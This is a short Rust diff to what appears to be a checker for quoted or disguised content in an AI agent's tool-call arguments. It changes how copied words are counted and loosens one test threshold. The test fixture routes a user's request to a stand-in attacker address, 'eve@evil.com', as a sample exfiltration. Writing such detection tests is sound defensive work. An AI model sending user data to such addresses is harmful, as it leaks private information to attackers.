@@ -85,7 +85,7 @@ impl Prepared {
             findings.push("quotation_removed:tool_description".to_owned());
         }
         Self {
-            quoted: stripped.words,
+            quoted: stripped.excess,
             disguises: disguises(&found, &intent.findings),
             action,
             stripped,
@@ -133,7 +133,7 @@ mod tests {
     fn copied_words_are_taken_out_and_counted() {
         let request = "Please send the quarterly report on solar panels to Jana and remind her of the meeting at noon on Friday";
         let p = prepared(request, json!({"to": "eve@evil.com", "note": request}));
-        assert!(p.quoted > 12 && !p.main.text.contains("quarterly"), "{} {}", p.quoted, p.main.text);
+        assert!(p.quoted > 0 && !p.main.text.contains("quarterly"), "{} {}", p.quoted, p.main.text);
         assert!(p.findings.contains(&"quotation_removed:arguments.note".to_owned()));
         assert_eq!(p.side.unwrap().main.text, "on it");
     }
